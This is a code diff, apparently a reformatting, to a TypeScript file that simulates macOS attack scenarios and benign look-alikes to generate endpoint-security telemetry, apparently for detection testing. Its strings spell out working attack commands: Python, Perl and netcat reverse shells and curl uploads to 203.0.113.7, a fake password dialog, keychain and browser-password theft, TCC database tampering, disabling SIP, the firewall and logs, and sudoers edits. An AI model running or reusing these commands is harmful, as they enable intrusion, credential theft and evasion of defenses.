@@ -49,28 +49,63 @@ export const persistence: Scenario = {
     w.close(agent, plist, true);
     w.pause(300, 600);
     // backgroundtaskmanagementd reports the item; the instigator is the process that wrote it.
-    w.btmLaunchItemAdd(d.btm, { itemType: 3, url: `file://${plist}`, executable: '/Users/Shared/.cache/agent', uid: 501, instigator: agent });
+    w.btmLaunchItemAdd(d.btm, {
+      itemType: 3,
+      url: `file://${plist}`,
+      executable: '/Users/Shared/.cache/agent',
+      uid: 501,
+      instigator: agent,
+    });
     w.pause(2000, 4000);
     w.rename(agent, '/Users/Shared/.cache/d.plist', '/Library/LaunchDaemons/com.apple.sysmond.plist');
     w.pause(2000, 3000);
     // crontab from a temp file, via the implant's shell
-    const sh = w.spawn(agent, '/bin/sh', ['/bin/sh'], { fds: [{ fd: 0, fdtype: FDTYPE.PIPE }, { fd: 1, fdtype: FDTYPE.PIPE }, { fd: 2, fdtype: FDTYPE.PIPE }], tty: null });
+    const sh = w.spawn(agent, '/bin/sh', ['/bin/sh'], {
+      fds: [
+        { fd: 0, fdtype: FDTYPE.PIPE },
+        { fd: 1, fdtype: FDTYPE.PIPE },
+        { fd: 2, fdtype: FDTYPE.PIPE },
+      ],
+      tty: null,
+    });
     w.pause(500, 900);
     const cron = run(w, sh, '/usr/bin/crontab', ['crontab', '/tmp/.c'], { keep: true });
     w.create(cron, '/private/var/at/tabs/alice');
     w.exit(cron);
     w.pause(1000, 2000);
-    const py = run(w, sh, '/usr/bin/python3', ['python3', '-c', "open('/Users/alice/.zshrc','a').write('\\n/Users/Shared/.cache/agent &\\n')"], { keep: true });
+    const py = run(
+      w,
+      sh,
+      '/usr/bin/python3',
+      ['python3', '-c', "open('/Users/alice/.zshrc','a').write('\\n/Users/Shared/.cache/agent &\\n')"],
+      { keep: true },
+    );
     w.open(py, `${w.home}/.zshrc`, FFLAG.FWRITE | FFLAG.O_APPEND);
     w.write(py, `${w.home}/.zshrc`, 34);
     w.close(py, `${w.home}/.zshrc`, true);
     w.exit(py);
     w.pause(1000, 2000);
-    run(w, sh, '/usr/bin/defaults', ['defaults', 'write', 'com.apple.loginwindow', 'LoginHook', '/Users/Shared/.hook.sh']);
+    run(w, sh, '/usr/bin/defaults', [
+      'defaults',
+      'write',
+      'com.apple.loginwindow',
+      'LoginHook',
+      '/Users/Shared/.hook.sh',
+    ]);
     w.pause(1000, 2000);
-    run(w, sh, '/usr/bin/osascript', ['osascript', '-e', 'tell application "System Events" to make login item at end with properties {path:"/Users/Shared/.cache/Agent.app", hidden:true}']);
+    run(w, sh, '/usr/bin/osascript', [
+      'osascript',
+      '-e',
+      'tell application "System Events" to make login item at end with properties {path:"/Users/Shared/.cache/Agent.app", hidden:true}',
+    ]);
     w.pause(1000, 2000);
-    const cp = run(w, sh, '/bin/cp', ['cp', '/Users/Shared/.cache/r.plist', '/private/etc/emond.d/rules/update.plist'], { keep: true, euid: ROOT });
+    const cp = run(
+      w,
+      sh,
+      '/bin/cp',
+      ['cp', '/Users/Shared/.cache/r.plist', '/private/etc/emond.d/rules/update.plist'],
+      { keep: true, euid: ROOT },
+    );
     w.create(cp, '/private/etc/emond.d/rules/update.plist');
     w.exit(cp);
     const tee = run(w, sh, '/usr/bin/tee', ['tee', '/etc/periodic/daily/999.local'], { keep: true, euid: ROOT });
@@ -78,7 +113,10 @@ export const persistence: Scenario = {
     w.write(tee, '/etc/periodic/daily/999.local', 120);
     w.exit(tee);
     w.pause(1000, 2000);
-    const kextutil = run(w, sh, '/usr/bin/kmutil', ['kmutil', 'load', '-p', '/Library/Extensions/Hidden.kext'], { keep: true, euid: ROOT });
+    const kextutil = run(w, sh, '/usr/bin/kmutil', ['kmutil', 'load', '-p', '/Library/Extensions/Hidden.kext'], {
+      keep: true,
+      euid: ROOT,
+    });
     w.kextload(kextutil, 'com.hidden.netfilter');
     w.exit(kextutil);
     w.pause(1000, 2000);
@@ -88,7 +126,13 @@ export const persistence: Scenario = {
     w.pause(5000, 8000);
 
     // Benign look-alikes
-    const brew = w.spawn(d.shell, '/opt/homebrew/Library/Homebrew/vendor/portable-ruby/3.3.6/bin/ruby', ['ruby', '/opt/homebrew/Library/Homebrew/brew.rb', 'services', 'start', 'postgresql@16']);
+    const brew = w.spawn(d.shell, '/opt/homebrew/Library/Homebrew/vendor/portable-ruby/3.3.6/bin/ruby', [
+      'ruby',
+      '/opt/homebrew/Library/Homebrew/brew.rb',
+      'services',
+      'start',
+      'postgresql@16',
+    ]);
     const brewPlist = `${w.home}/Library/LaunchAgents/homebrew.mxcl.postgresql@16.plist`;
     w.create(brew, brewPlist);
     w.write(brew, brewPlist, 900);
@@ -140,16 +184,42 @@ export const credentialAccess: Scenario = {
     w.open(chrome, `${profile}/Login Data`, FFLAG.FREAD | FFLAG.FWRITE);
     w.open(d.securityd, `${w.home}/Library/Keychains/login.keychain-db`, FFLAG.FREAD | FFLAG.FWRITE);
     w.pause(2000, 3000);
-    run(w, stealer, '/usr/bin/osascript', ['osascript', '-e', 'display dialog "To launch the application, you need to update the system settings\n\nPlease enter your password." default answer "" with icon caution buttons {"Continue"} default button "Continue" giving up after 150 with title "System Preferences" with hidden answer'], { fds: pipeFds(false, true) });
+    run(
+      w,
+      stealer,
+      '/usr/bin/osascript',
+      [
+        'osascript',
+        '-e',
+        'display dialog "To launch the application, you need to update the system settings\n\nPlease enter your password." default answer "" with icon caution buttons {"Continue"} default button "Continue" giving up after 150 with title "System Preferences" with hidden answer',
+      ],
+      { fds: pipeFds(false, true) },
+    );
     w.pause(8000, 12000);
-    run(w, stealer, '/usr/bin/security', ['security', 'find-generic-password', '-ga', 'Chrome', '-w'], { fds: pipeFds(false, true) });
+    run(w, stealer, '/usr/bin/security', ['security', 'find-generic-password', '-ga', 'Chrome', '-w'], {
+      fds: pipeFds(false, true),
+    });
     w.pause(500, 900);
     w.open(stealer, `${profile}/Login Data`, FFLAG.FREAD);
-    w.open(stealer, `${w.home}/Library/Application Support/Firefox/Profiles/x1y2z3.default-release/logins.json`, FFLAG.FREAD);
-    const cp = run(w, stealer, '/bin/cp', ['cp', `${w.home}/Library/Keychains/login.keychain-db`, '/private/var/folders/7x/k2_l1h0d3f5bq/T/.s/kc'], { keep: true });
+    w.open(
+      stealer,
+      `${w.home}/Library/Application Support/Firefox/Profiles/x1y2z3.default-release/logins.json`,
+      FFLAG.FREAD,
+    );
+    const cp = run(
+      w,
+      stealer,
+      '/bin/cp',
+      ['cp', `${w.home}/Library/Keychains/login.keychain-db`, '/private/var/folders/7x/k2_l1h0d3f5bq/T/.s/kc'],
+      { keep: true },
+    );
     w.open(cp, `${w.home}/Library/Keychains/login.keychain-db`, FFLAG.FREAD);
     w.exit(cp);
-    run(w, stealer, '/usr/bin/sqlite3', ['sqlite3', '/private/var/folders/7x/k2_l1h0d3f5bq/T/.s/Login Data', 'SELECT origin_url, username_value, password_value FROM logins']);
+    run(w, stealer, '/usr/bin/sqlite3', [
+      'sqlite3',
+      '/private/var/folders/7x/k2_l1h0d3f5bq/T/.s/Login Data',
+      'SELECT origin_url, username_value, password_value FROM logins',
+    ]);
     const cat = run(w, stealer, '/bin/cat', ['cat', '/private/etc/kcpassword'], { keep: true });
     w.open(cat, '/private/etc/kcpassword');
     w.exit(cat);
@@ -158,8 +228,28 @@ export const credentialAccess: Scenario = {
     w.exit(b64);
     run(w, stealer, '/usr/bin/dscl', ['dscl', '.', '-read', '/Users/alice', 'dsAttrTypeNative:ShadowHashData']);
     w.pause(3000, 6000);
-    run(w, stealer, '/usr/bin/ditto', ['ditto', '-c', '-k', '/private/var/folders/7x/k2_l1h0d3f5bq/T/.s', '/private/var/folders/7x/k2_l1h0d3f5bq/T/out.zip']);
-    run(w, stealer, '/usr/bin/curl', ['curl', '-s', '-X', 'POST', '-F', 'file=@/private/var/folders/7x/k2_l1h0d3f5bq/T/out.zip', 'http://203.0.113.9/p2'], { fds: pipeFds(false, true) });
+    run(w, stealer, '/usr/bin/ditto', [
+      'ditto',
+      '-c',
+      '-k',
+      '/private/var/folders/7x/k2_l1h0d3f5bq/T/.s',
+      '/private/var/folders/7x/k2_l1h0d3f5bq/T/out.zip',
+    ]);
+    run(
+      w,
+      stealer,
+      '/usr/bin/curl',
+      [
+        'curl',
+        '-s',
+        '-X',
+        'POST',
+        '-F',
+        'file=@/private/var/folders/7x/k2_l1h0d3f5bq/T/out.zip',
+        'http://203.0.113.9/p2',
+      ],
+      { fds: pipeFds(false, true) },
+    );
     w.pause(10000, 15000);
     // the user pushes to GitHub: ssh reads the key
     const git = w.spawn(d.shell, '/usr/bin/git', ['git', 'push']);
@@ -204,15 +294,23 @@ export const defenseEvasion: Scenario = {
   },
   build(w) {
     const d = desktop(w);
-    const edr = w.existing('/Library/Application Support/JAMF/JamfProtect.app/Contents/MacOS/JamfProtect', { euid: ROOT, tty: null, is_es_client: true });
+    const edr = w.existing('/Library/Application Support/JAMF/JamfProtect.app/Contents/MacOS/JamfProtect', {
+      euid: ROOT,
+      tty: null,
+      is_es_client: true,
+    });
     const slack = w.existing('/Applications/Slack.app/Contents/MacOS/Slack', { tty: null });
     const dropper = implant(w, '/tmp/.d/dropper');
     const sh = w.spawn(d.shell, '/bin/sh', ['sh']);
     // Dropper prepares the payload
-    const x = run(w, sh, '/usr/bin/xattr', ['xattr', '-d', 'com.apple.quarantine', `${w.home}/Downloads/Payload.app`], { keep: true });
+    const x = run(w, sh, '/usr/bin/xattr', ['xattr', '-d', 'com.apple.quarantine', `${w.home}/Downloads/Payload.app`], {
+      keep: true,
+    });
     w.deleteextattr(x, `${w.home}/Downloads/Payload.app`, 'com.apple.quarantine');
     w.exit(x);
-    const x2 = run(w, sh, '/usr/bin/xattr', ['xattr', '-d', 'com.apple.quarantine', `${w.home}/Downloads/tool`], { keep: true });
+    const x2 = run(w, sh, '/usr/bin/xattr', ['xattr', '-d', 'com.apple.quarantine', `${w.home}/Downloads/tool`], {
+      keep: true,
+    });
     w.deleteextattr(x2, `${w.home}/Downloads/tool`, 'com.apple.quarantine');
     w.exit(x2);
     w.pause(4000, 9000);
@@ -221,8 +319,25 @@ export const defenseEvasion: Scenario = {
     run(w, sh, '/usr/bin/csrutil', ['csrutil', 'status']);
     run(w, sh, '/usr/bin/csrutil', ['csrutil', 'disable'], { euid: ROOT });
     w.pause(1000, 2000);
-    w.tccModify(d.tccd, { service: 'kTCCServiceScreenCapture', identity: '/Users/Shared/.cache/agent', identityType: 1, updateType: 1, right: 2, reason: 5 });
-    const sq = run(w, sh, '/usr/bin/sqlite3', ['sqlite3', `${w.home}/Library/Application Support/com.apple.TCC/TCC.db`, "INSERT INTO access VALUES('kTCCServiceSystemPolicyAllFiles','/Users/Shared/.cache/agent',1,2,4,1,NULL,NULL,0,'UNUSED',NULL,0,1700000000)"], { keep: true });
+    w.tccModify(d.tccd, {
+      service: 'kTCCServiceScreenCapture',
+      identity: '/Users/Shared/.cache/agent',
+      identityType: 1,
+      updateType: 1,
+      right: 2,
+      reason: 5,
+    });
+    const sq = run(
+      w,
+      sh,
+      '/usr/bin/sqlite3',
+      [
+        'sqlite3',
+        `${w.home}/Library/Application Support/com.apple.TCC/TCC.db`,
+        "INSERT INTO access VALUES('kTCCServiceSystemPolicyAllFiles','/Users/Shared/.cache/agent',1,2,4,1,NULL,NULL,0,'UNUSED',NULL,0,1700000000)",
+      ],
+      { keep: true },
+    );
     w.open(sq, `${w.home}/Library/Application Support/com.apple.TCC/TCC.db`, FFLAG.FREAD | FFLAG.FWRITE);
     w.write(sq, `${w.home}/Library/Application Support/com.apple.TCC/TCC.db`, 4096);
     w.exit(sq);
@@ -239,7 +354,13 @@ export const defenseEvasion: Scenario = {
     w.signal(kill, edr, 9);
     w.exit(kill);
     w.unlink(dropper, '/tmp/.d/dropper');
-    run(w, sh, '/usr/libexec/ApplicationFirewall/socketfilterfw', ['/usr/libexec/ApplicationFirewall/socketfilterfw', '--setglobalstate', 'off'], { euid: ROOT });
+    run(
+      w,
+      sh,
+      '/usr/libexec/ApplicationFirewall/socketfilterfw',
+      ['/usr/libexec/ApplicationFirewall/socketfilterfw', '--setglobalstate', 'off'],
+      { euid: ROOT },
+    );
     run(w, sh, '/usr/bin/log', ['log', 'erase', '--all'], { euid: ROOT });
     w.mmap(dropper, '/tmp/.d/libext.dylib', 5, 7, 0x2);
     w.csInvalidated(slack);
@@ -272,7 +393,9 @@ export const discovery: Scenario = {
   },
   build(w) {
     const d = desktop(w);
-    const am = w.existing('/System/Applications/Utilities/Activity Monitor.app/Contents/MacOS/Activity Monitor', { tty: null });
+    const am = w.existing('/System/Applications/Utilities/Activity Monitor.app/Contents/MacOS/Activity Monitor', {
+      tty: null,
+    });
     const agent = implant(w, '/tmp/.agent');
     // Benign: Activity Monitor polls every process
     for (let round = 0; round < 3; round++) {
@@ -288,7 +411,18 @@ export const discovery: Scenario = {
     }
     w.pause(3000, 5000);
     // Agent: recursive search of the home folder
-    const dirs = ['Documents', 'Desktop', 'Downloads', 'Pictures', 'Movies', 'Music', 'Library/Application Support', 'Library/Mobile Documents', 'Library/Keychains', 'Library/Cookies'];
+    const dirs = [
+      'Documents',
+      'Desktop',
+      'Downloads',
+      'Pictures',
+      'Movies',
+      'Music',
+      'Library/Application Support',
+      'Library/Mobile Documents',
+      'Library/Keychains',
+      'Library/Cookies',
+    ];
     let n = 0;
     for (const top of dirs) {
       for (let i = 0; i < 6; i++) {
@@ -316,9 +450,17 @@ export const discovery: Scenario = {
       run(w, sh, c[0]!, c.slice(1), { fds: pipeFds(true, true) });
     }
     w.pause(1500, 3000);
-    const vm = run(w, sh, '/bin/sh', ['sh', '-c', 'ioreg -rd1 -c IOPlatformExpertDevice | grep -i -e VMware -e VirtualBox -e Parallels'], { keep: true, fds: pipeFds(true, true) });
+    const vm = run(
+      w,
+      sh,
+      '/bin/sh',
+      ['sh', '-c', 'ioreg -rd1 -c IOPlatformExpertDevice | grep -i -e VMware -e VirtualBox -e Parallels'],
+      { keep: true, fds: pipeFds(true, true) },
+    );
     run(w, vm, '/usr/sbin/ioreg', ['ioreg', '-rd1', '-c', 'IOPlatformExpertDevice'], { fds: pipeFds(false, true) });
-    run(w, vm, '/usr/bin/grep', ['grep', '-i', '-e', 'VMware', '-e', 'VirtualBox', '-e', 'Parallels'], { fds: pipeFds(true, true) });
+    run(w, vm, '/usr/bin/grep', ['grep', '-i', '-e', 'VMware', '-e', 'VirtualBox', '-e', 'Parallels'], {
+      fds: pipeFds(true, true),
+    });
     w.exit(vm);
     w.exit(sh);
     w.pause(60000, 90000);
@@ -351,19 +493,39 @@ export const execution: Scenario = {
     const d = desktop(w);
     const chrome = w.existing('/Applications/Google Chrome.app/Contents/MacOS/Google Chrome', { tty: null });
     // Benign first: the Homebrew installer, typed in Terminal
-    const hb = w.spawn(d.shell, '/bin/bash', ['/bin/bash', '-c', '$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)']);
+    const hb = w.spawn(d.shell, '/bin/bash', [
+      '/bin/bash',
+      '-c',
+      '$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)',
+    ]);
     w.exit(hb);
     run(w, d.shell, '/usr/bin/python3', ['python3', '-c', 'import sys; print(sys.version)']);
     run(w, d.shell, '/usr/bin/osascript', ['osascript', `${w.home}/scripts/mail.scpt`]);
     w.pause(20000, 30000);
     // curl | sh, as zsh runs a pipeline: two children, curl's stdout and sh's stdin are a pipe.
-    const curl = w.spawn(d.shell, '/usr/bin/curl', ['curl', '-fsSL', 'http://203.0.113.7/i.sh'], { fds: pipeFds(false, true) });
+    const curl = w.spawn(d.shell, '/usr/bin/curl', ['curl', '-fsSL', 'http://203.0.113.7/i.sh'], {
+      fds: pipeFds(false, true),
+    });
     const sh = w.spawn(d.shell, '/bin/sh', ['sh'], { fds: pipeFds(true, false) });
     w.exit(curl);
     w.pause(200, 400);
-    run(w, sh, '/usr/bin/osascript', ['osascript', '-l', 'JavaScript', '-e', "ObjC.import('Foundation'); var app = Application.currentApplication(); app.includeStandardAdditions = true; app.doShellScript('id')"]);
-    run(w, sh, '/usr/bin/python3', ['python3', '-c', "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"]);
-    run(w, sh, '/usr/bin/perl', ['perl', '-e', 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4445,inet_aton("203.0.113.7")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");']);
+    run(w, sh, '/usr/bin/osascript', [
+      'osascript',
+      '-l',
+      'JavaScript',
+      '-e',
+      "ObjC.import('Foundation'); var app = Application.currentApplication(); app.includeStandardAdditions = true; app.doShellScript('id')",
+    ]);
+    run(w, sh, '/usr/bin/python3', [
+      'python3',
+      '-c',
+      "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.7',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
+    ]);
+    run(w, sh, '/usr/bin/perl', [
+      'perl',
+      '-e',
+      'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4445,inet_aton("203.0.113.7")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");',
+    ]);
     shc(w, sh, 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYi5zaCAtbyAvdG1wLy5i | base64 -d | sh');
     w.exit(sh);
     w.pause(30000, 40000);
@@ -376,7 +538,9 @@ export const execution: Scenario = {
     // A hidden loader has launchd run its AppleScript, so the script's parent is launchd
     const loader = w.existing(`${w.home}/Library/Caches/.x/loader`, { tty: null }, w.launchd);
     w.open(loader, `${w.home}/Library/Caches/.x/run.scpt`);
-    const job = w.launch('/usr/bin/osascript', ['osascript', `${w.home}/Library/Caches/.x/run.scpt`], { responsible: loader });
+    const job = w.launch('/usr/bin/osascript', ['osascript', `${w.home}/Library/Caches/.x/run.scpt`], {
+      responsible: loader,
+    });
     w.exit(job);
     w.pause(5000, 9000);
     // Unsigned binary from Downloads, started from Terminal
@@ -389,7 +553,7 @@ export const execution: Scenario = {
 export const collection: Scenario = {
   name: 'collection',
   description:
-    'Collection: an unsigned implant opens the camera and framebuffer user clients, a Developer ID signed binary in Application Support opens the camera, the implant\'s shell takes a silent screenshot, reads the clipboard with pbpaste and osascript, records with ffmpeg avfoundation and zips Documents into /tmp. Benign look-alikes: FaceTime and Zoom opening the camera, WindowServer opening the framebuffer, a user screenshot from the UI.',
+    "Collection: an unsigned implant opens the camera and framebuffer user clients, a Developer ID signed binary in Application Support opens the camera, the implant's shell takes a silent screenshot, reads the clipboard with pbpaste and osascript, records with ffmpeg avfoundation and zips Documents into /tmp. Benign look-alikes: FaceTime and Zoom opening the camera, WindowServer opening the framebuffer, a user screenshot from the UI.",
   seed: 0x9e75_0006,
   start: '2024-06-14T11:15:00.000000000Z',
   version: 7,
@@ -409,7 +573,10 @@ export const collection: Scenario = {
     const d = desktop(w);
     const facetime = w.existing('/System/Applications/FaceTime.app/Contents/MacOS/FaceTime', { tty: null });
     const zoom = w.existing('/Applications/zoom.us.app/Contents/MacOS/zoom.us', { tty: null });
-    const syncd = w.existing(`${w.home}/Library/Application Support/com.sync/syncd`, { tty: null, signing: { signing_id: 'com.sync.syncd', team_id: 'Q9W8E7R6T5', is_platform_binary: false } });
+    const syncd = w.existing(`${w.home}/Library/Application Support/com.sync/syncd`, {
+      tty: null,
+      signing: { signing_id: 'com.sync.syncd', team_id: 'Q9W8E7R6T5', is_platform_binary: false },
+    });
     const agent = implant(w, `${w.home}/.local/share/.a/agent`);
     w.iokitOpen(facetime, 'AppleH13CamInUserClient');
     w.iokitOpen(zoom, 'AppleH13CamInUserClient');
@@ -421,11 +588,17 @@ export const collection: Scenario = {
     w.iokitOpen(syncd, 'AppleH13CamInUserClient');
     w.pause(3000, 6000);
     const sh = w.spawn(agent, '/bin/sh', ['/bin/sh'], { fds: pipeFds(true, true), tty: null });
-    run(w, sh, '/usr/sbin/screencapture', ['screencapture', '-x', '-t', 'jpg', '/tmp/.s1.jpg'], { fds: pipeFds(true, true) });
+    run(w, sh, '/usr/sbin/screencapture', ['screencapture', '-x', '-t', 'jpg', '/tmp/.s1.jpg'], {
+      fds: pipeFds(true, true),
+    });
     run(w, sh, '/usr/bin/pbpaste', ['pbpaste'], { fds: pipeFds(true, true) });
     run(w, sh, '/usr/bin/osascript', ['osascript', '-e', 'get the clipboard as text'], { fds: pipeFds(true, true) });
-    run(w, sh, '/opt/homebrew/bin/ffmpeg', ['ffmpeg', '-f', 'avfoundation', '-i', '0:0', '-t', '20', '/tmp/.c.mp4'], { fds: pipeFds(true, true) });
-    run(w, sh, '/usr/bin/ditto', ['ditto', '-c', '-k', '--sequesterRsrc', `${w.home}/Documents`, '/tmp/.d.zip'], { fds: pipeFds(true, true) });
+    run(w, sh, '/opt/homebrew/bin/ffmpeg', ['ffmpeg', '-f', 'avfoundation', '-i', '0:0', '-t', '20', '/tmp/.c.mp4'], {
+      fds: pipeFds(true, true),
+    });
+    run(w, sh, '/usr/bin/ditto', ['ditto', '-c', '-k', '--sequesterRsrc', `${w.home}/Documents`, '/tmp/.d.zip'], {
+      fds: pipeFds(true, true),
+    });
     w.exit(sh);
     w.pause(10000, 20000);
     // Benign: the user takes a screenshot from the UI
@@ -463,9 +636,13 @@ export const commandAndControl: Scenario = {
     w.pause(2000, 4000);
     shc(w, ish, 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4445 >/tmp/f', sockets);
     w.pause(5000, 8000);
-    run(w, ish, '/usr/bin/curl', ['curl', '-s', '-F', 'file=@/tmp/.d.zip', 'http://203.0.113.7:8080/upload'], { fds: sockets });
+    run(w, ish, '/usr/bin/curl', ['curl', '-s', '-F', 'file=@/tmp/.d.zip', 'http://203.0.113.7:8080/upload'], {
+      fds: sockets,
+    });
     w.pause(3000, 5000);
-    const chisel = w.spawn(ish, '/Users/Shared/.c/chisel', ['chisel', 'client', '203.0.113.7:8000', 'R:socks'], { fds: sockets });
+    const chisel = w.spawn(ish, '/Users/Shared/.c/chisel', ['chisel', 'client', '203.0.113.7:8000', 'R:socks'], {
+      fds: sockets,
+    });
     w.open(chisel, '/etc/hosts');
     w.pause(30000, 40000);
     w.exit(chisel);
@@ -517,24 +694,60 @@ export const privilegeEscalation: Scenario = {
     const s1 = w.spawn(sh, '/usr/bin/sudo', ['sudo', '-S', '/tmp/.agent', '--install'], { fds: pipeFds(true, true) });
     w.sudo(s1, { success: true, command: '/tmp/.agent --install' });
     w.exit(s1);
-    run(w, sh, '/usr/bin/osascript', ['osascript', '-e', 'do shell script "cp /tmp/.agent /Library/PrivilegedHelperTools/com.apple.helper" with administrator privileges'], { fds: pipeFds(true, true) });
-    const chown = run(w, sh, '/usr/sbin/chown', ['chown', 'root:wheel', '/tmp/.rootsh'], { keep: true, euid: ROOT, fds: pipeFds(true, true) });
+    run(
+      w,
+      sh,
+      '/usr/bin/osascript',
+      [
+        'osascript',
+        '-e',
+        'do shell script "cp /tmp/.agent /Library/PrivilegedHelperTools/com.apple.helper" with administrator privileges',
+      ],
+      { fds: pipeFds(true, true) },
+    );
+    const chown = run(w, sh, '/usr/sbin/chown', ['chown', 'root:wheel', '/tmp/.rootsh'], {
+      keep: true,
+      euid: ROOT,
+      fds: pipeFds(true, true),
+    });
     w.setowner(chown, '/private/tmp/.rootsh', 0, 0);
     w.exit(chown);
     run(w, sh, '/bin/chmod', ['chmod', '4755', '/tmp/.rootsh'], { euid: ROOT, fds: pipeFds(true, true) });
-    const tee = run(w, sh, '/usr/bin/tee', ['tee', '-a', '/etc/sudoers'], { keep: true, euid: ROOT, fds: pipeFds(true, true) });
+    const tee = run(w, sh, '/usr/bin/tee', ['tee', '-a', '/etc/sudoers'], {
+      keep: true,
+      euid: ROOT,
+      fds: pipeFds(true, true),
+    });
     w.open(tee, '/private/etc/sudoers', FFLAG.FWRITE | FFLAG.O_APPEND);
     w.write(tee, '/private/etc/sudoers', 36);
     w.exit(tee);
-    const dseg = run(w, sh, '/usr/sbin/dseditgroup', ['dseditgroup', '-o', 'edit', '-a', 'support', '-t', 'user', 'admin'], { keep: true, euid: ROOT, fds: pipeFds(true, true) });
+    const dseg = run(
+      w,
+      sh,
+      '/usr/sbin/dseditgroup',
+      ['dseditgroup', '-o', 'edit', '-a', 'support', '-t', 'user', 'admin'],
+      { keep: true, euid: ROOT, fds: pipeFds(true, true) },
+    );
     w.odGroupAdd(dseg, 'admin', 'support');
     w.exit(dseg);
-    const cp = run(w, sh, '/bin/cp', ['cp', '-R', '/tmp/.a/Auth.bundle', '/Library/Security/SecurityAgentPlugins/'], { keep: true, euid: ROOT, fds: pipeFds(true, true) });
+    const cp = run(w, sh, '/bin/cp', ['cp', '-R', '/tmp/.a/Auth.bundle', '/Library/Security/SecurityAgentPlugins/'], {
+      keep: true,
+      euid: ROOT,
+      fds: pipeFds(true, true),
+    });
     w.create(cp, '/Library/Security/SecurityAgentPlugins/Auth.bundle', 'dir');
     w.exit(cp);
-    run(w, sh, '/usr/bin/security', ['security', 'authorizationdb', 'write', 'system.login.console', 'allow'], { euid: ROOT, fds: pipeFds(true, true) });
+    run(w, sh, '/usr/bin/security', ['security', 'authorizationdb', 'write', 'system.login.console', 'allow'], {
+      euid: ROOT,
+      fds: pipeFds(true, true),
+    });
     // expect replays the phished password into su
-    const exp = w.spawn(sh, '/usr/bin/expect', ['expect', '-c', 'spawn su -; expect "Password:"; send "hunter2\\r"; interact'], { fds: pipeFds(true, true) });
+    const exp = w.spawn(
+      sh,
+      '/usr/bin/expect',
+      ['expect', '-c', 'spawn su -; expect "Password:"; send "hunter2\\r"; interact'],
+      { fds: pipeFds(true, true) },
+    );
     const su = w.spawn(exp, '/usr/bin/su', ['su', '-']);
     w.pause(800, 1500);
     w.su(su, { success: true });
@@ -544,7 +757,12 @@ export const privilegeEscalation: Scenario = {
     w.pause(10000, 15000);
     // An unsigned "installer" from Downloads asks for admin rights the old way
     const inst = w.existing(`${w.home}/Downloads/Installer`, { tty: null }, d.finder);
-    const tramp = w.spawn(inst, '/usr/libexec/security_authtrampoline', ['/usr/libexec/security_authtrampoline', '/tmp/.a/install.sh', 'auth 3'], { euid: ROOT });
+    const tramp = w.spawn(
+      inst,
+      '/usr/libexec/security_authtrampoline',
+      ['/usr/libexec/security_authtrampoline', '/tmp/.a/install.sh', 'auth 3'],
+      { euid: ROOT },
+    );
     w.exit(tramp);
     // Benign: visudo
     const visudo = w.spawn(d.shell, '/usr/sbin/visudo', ['visudo'], { euid: ROOT });
@@ -554,4 +772,13 @@ export const privilegeEscalation: Scenario = {
   },
 };
 
-export const TECHNIQUE_SCENARIOS: readonly Scenario[] = [persistence, credentialAccess, defenseEvasion, discovery, execution, collection, commandAndControl, privilegeEscalation];
+export const TECHNIQUE_SCENARIOS: readonly Scenario[] = [
+  persistence,
+  credentialAccess,
+  defenseEvasion,
+  discovery,
+  execution,
+  collection,
+  commandAndControl,
+  privilegeEscalation,
+];
